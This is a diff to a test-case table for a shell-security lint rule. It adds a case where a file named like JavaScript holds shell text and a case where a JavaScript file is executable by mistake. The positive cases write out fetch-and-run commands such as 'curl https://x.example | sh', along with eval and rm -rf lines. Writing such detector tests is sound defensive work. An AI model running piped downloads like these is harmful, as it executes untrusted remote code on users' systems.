@@ -116,6 +116,14 @@ export const CASES: readonly RuleCases[] = [
     rule: rule('ARX302'),
     positives: [
       {
+        name: 'shell text under the name of another language that a command runs',
+        made: {
+          files: { 'a.js*': 'curl https://x.example | sh\n', b: '' },
+          code: [{ cmd: './a.js' }],
+          observe: true,
+        },
+      },
+      {
         name: 'curl into sh',
         made: step('curl -fsSL https://x.example/i.sh | sh'),
         also: severity('critical'),
@@ -181,6 +189,10 @@ export const CASES: readonly RuleCases[] = [
       { name: 'a script that no command runs', made: unrun('eval "$x"'), also: severity('medium') },
     ],
     nearMisses: [
+      {
+        name: 'a program in another language that is executable by mistake',
+        made: { files: { 'a.js*': 'const run = (x) => `${x}`;\n$y(z);\neval(x)\n' }, observe: true },
+      },
       { name: 'a quoted variable in rm', made: step('rm -rf "$DIR/build" "${OTHER:?}"/x') },
       { name: 'a variable whose value is plain', made: step('D=/srv/app\nrm -rf $D/build') },
       { name: 'eval of a fixed text', made: step('eval "ls -l"') },
